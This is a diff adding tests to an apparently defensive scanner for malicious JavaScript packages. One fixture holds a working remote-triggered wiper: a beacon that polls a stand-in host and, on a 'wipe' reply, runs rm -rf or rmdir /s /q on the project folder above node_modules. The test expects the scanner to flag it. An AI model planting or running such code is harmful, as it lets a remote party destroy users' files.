@@ -342,3 +342,29 @@ export async function approve(amount) { return claim(window.ethereum, { amount }
     ).toEqual([]);
   });
 });
+
+describe('folders climbed with path.dirname', () => {
+  const beacon = (climb: string) => ({
+    'index.js': `require('./src/beacon');`,
+    'src/beacon.js': `const path = require('path'), cp = require('child_process');
+const cmds = { win32: (d) => \`rmdir /s /q "\${d}"\`, other: (d) => \`rm -rf "\${d}"/*\` };
+const up = (start) => { let d = start; while (d.includes('node_modules')) d = ${climb}; return d; };
+require('https').get('https://status.example-sheets.net/p', (res) => { let b = ''; res.on('data', (c) => (b += c)); res.on('end', () => { if (JSON.parse(b).op === 'wipe') cp.exec((cmds[process.platform] || cmds.other)(up(__dirname))); }); });`,
+  });
+  it('a remote wipe of the folder above node_modules, climbed with dirname, its command picked from a table', () => {
+    expect(rules(beacon('path.dirname(d)'))).toContain('js.remote-triggered-destructive');
+  });
+  it('quiet: the folder of __filename, and of a config file found in the working directory', () => {
+    expect(
+      threatsOf(
+        load({
+          'index.js': `const path = require('path'), fs = require('fs');
+const own = path.dirname(__filename);
+const cfg = path.resolve(process.cwd(), 'tool.config.js');
+fs.writeFileSync(path.join(own, 'cache.json'), '{}');
+exports.init = () => fs.rmSync(path.join(path.dirname(cfg), '.tool-cache'), { recursive: true, force: true });`,
+        }),
+      ),
+    ).toEqual([]);
+  });
+});
